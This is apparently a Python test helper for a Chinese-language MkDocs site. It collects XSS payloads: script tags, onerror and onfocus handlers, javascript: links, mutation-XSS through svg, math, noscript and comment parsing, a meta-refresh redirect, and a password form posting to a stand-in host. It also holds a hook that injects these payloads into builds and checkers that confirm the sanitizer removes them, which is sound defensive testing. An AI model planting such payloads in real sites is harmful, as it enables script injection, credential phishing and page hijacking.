"""Hostile content for the build and browser tests: payloads that once ran script on the site,
the test-only hook that lets them through validation, and checks on what a build published.

Each payload carries the marker `hpxss` in the part that would run, redirect or hide the page,
so "the marker is nowhere in the built site" means "nothing of it is left".
"""

from __future__ import annotations

import json
import re
import shutil
from dataclasses import dataclass
from html import unescape
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import yaml

HOOK_SOURCE = Path(__file__).with_name("hostile_hook.py")
MARKER = "hpxss"

# name → Markdown body text. Each rendered as Markdown (site extensions) ran script, redirected
# or blanked the page before the sanitizer (tests/unit/test_safehtml.py checks they are live).
PAYLOADS: dict[str, str] = {
    "script": '<script>alert("hpxss-script")</script>',
    "img-onerror": "<img src onerror=\"alert('hpxss-img')\">",
    "attr-list-onclick": "点这一段试试\n{: onclick=\"alert('hpxss-attr-click')\" }",
    "attr-list-autofocus": (
        "### 自动聚焦 {: tabindex=0 autofocus onfocus=\"alert('hpxss-attr-focus')\" }"
    ),
    "attr-list-href": (
        "[普通链接](https://example.org/){: href=\"javascript:alert('hpxss-href')\" }"
    ),
    "markdown-link": "[点我看看](javascript:alert%28%22hpxss-mdlink%22%29)",
    "tab-in-scheme": "<a href=\"java&#9;script:alert('hpxss-tab')\">点我看看</a>",
    "svg-style": "<svg><style><img src onerror=\"alert('hpxss-svg')\"></style></svg>",
    "math-style": (
        "<math><mtext><table><mglyph><style><img src onerror=\"alert('hpxss-math')\">"
        "</style></mglyph></table></mtext></math>"
    ),
    "svg-animate": (
        '<svg><a><animate attributeName="href" values="javascript:alert(\'hpxss-animate\')"/>'
        '<text x="20" y="20">点我看看</text></a></svg>'
    ),
    "comment-short": "<!--><img src onerror=\"alert('hpxss-comment')\">-->",
    "comment-bang": "<!-- --!><img src onerror=\"alert('hpxss-bang')\"> -->",
    "noscript": (
        "<noscript><p title=\"</noscript><img src onerror=alert('hpxss-noscript')>\"></noscript>"
    ),
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://hpxss.example/">',
    "style-hides-page": "<style>body { display: none } /* hpxss-style */</style>",
    "style-attribute": (
        '<div style="position:fixed;inset:0;background:#fff;z-index:9" data-x="hpxss-cover">'
        "遮住页面</div>"
    ),
    "form-password": (
        '<form action="https://hpxss.example/login"><input type="password" name="hpxss-pw">'
        "<button>登录</button></form>"
    ),
    "iframe": '<iframe src="https://hpxss.example/frame"></iframe>',
    "object": '<object data="https://hpxss.example/x.swf"></object>',
    "base": '<base href="https://hpxss.example/">',
}

# Elements a sanitized body never contains (Material's own page has script, style and svg).
BODY_FORBIDDEN = {
    "script",
    "style",
    "svg",
    "math",
    "form",
    "input",
    "button",
    "meta",
    "noscript",
    "iframe",
    "object",
    "embed",
    "base",
    "link",
    "template",
    "textarea",
}
_SCRIPT_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)
_URL_IGNORED = re.compile(r"[\x00-\x20]")


def payload_body(names: list[str] | None = None) -> str:
    """Every payload (or the named ones), each in a paragraph of its own."""
    chosen = PAYLOADS if names is None else {name: PAYLOADS[name] for name in names}
    return "\n\n".join(["正文开头。", *chosen.values(), "正文结尾。"])


# -- the test-only hook ----------------------------------------------------------------------


def add_hostile_hook(
    project: Path,
    *,
    scanner: bool = True,
    taint: tuple[str, str] | None = None,
    serving: bool = False,
    templates: str | None = None,
) -> None:
    """List tests/hostile_hook.py after the site's hook in `project` (see that file)."""
    shutil.copy2(HOOK_SOURCE, project / "hooks" / "hostile_hook.py")
    settings: dict[str, Any] = {"scanner": scanner, "serving": serving}
    if taint:
        settings["taint"] = list(taint)
    if templates:
        settings["templates"] = templates
    (project / "hostile.json").write_text(json.dumps(settings), encoding="utf-8")
    config_path = project / "mkdocs.yml"
    config = yaml.safe_load(config_path.read_text(encoding="utf-8"))
    if "INHERIT" not in config:
        config_path.rename(project / "mkdocs.base.yml")
        config = {"INHERIT": "mkdocs.base.yml"}
    config["hooks"] = ["hooks/site_hooks.py", "hooks/hostile_hook.py"]
    config_path.write_text(yaml.safe_dump(config, allow_unicode=True), encoding="utf-8")


def write_village_profile(project: Path, rel_path: str, text: str) -> None:
    path = project / "docs" / "villages" / rel_path
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")


def built_pages(site_dir: Path) -> dict[str, str]:
    """Every HTML page of a built site, by path relative to the site."""
    return {
        path.relative_to(site_dir).as_posix(): path.read_text(encoding="utf-8")
        for path in sorted(site_dir.rglob("*.html"))
    }


# -- what a page contains --------------------------------------------------------------------


@dataclass
class Element:
    tag: str
    attrs: list[tuple[str, str]]


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[Element] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append(Element(tag, [(name, value or "") for name, value in attrs]))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[Element]:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.elements


def is_script_url(value: str) -> bool:
    return bool(_SCRIPT_SCHEME.match(_URL_IGNORED.sub("", unescape(value))))


def executable_parts(html: str) -> list[str]:
    """Event-handler attributes and script URLs anywhere in `html`."""
    found = []
    for element in elements(html):
        for name, value in element.attrs:
            if name.startswith("on"):
                found.append(f"<{element.tag} {name}=…>")
            elif is_script_url(value):
                found.append(f"<{element.tag} {name}={value!r}>")
    return found


def unsafe_body_parts(html: str) -> list[str]:
    """What a sanitized body never has: executable parts, forbidden elements, `style`."""
    found = executable_parts(html)
    for element in elements(html):
        if element.tag in BODY_FORBIDDEN:
            found.append(f"<{element.tag}>")
        found += [f"<{element.tag} style=…>" for name, _ in element.attrs if name == "style"]
    return found


def region(page: str, opening: str, closing: str) -> str:
    """The HTML between `opening` (an opening tag as written) and the next `closing`."""
    start = page.index(opening)
    return page[start : page.index(closing, start)]
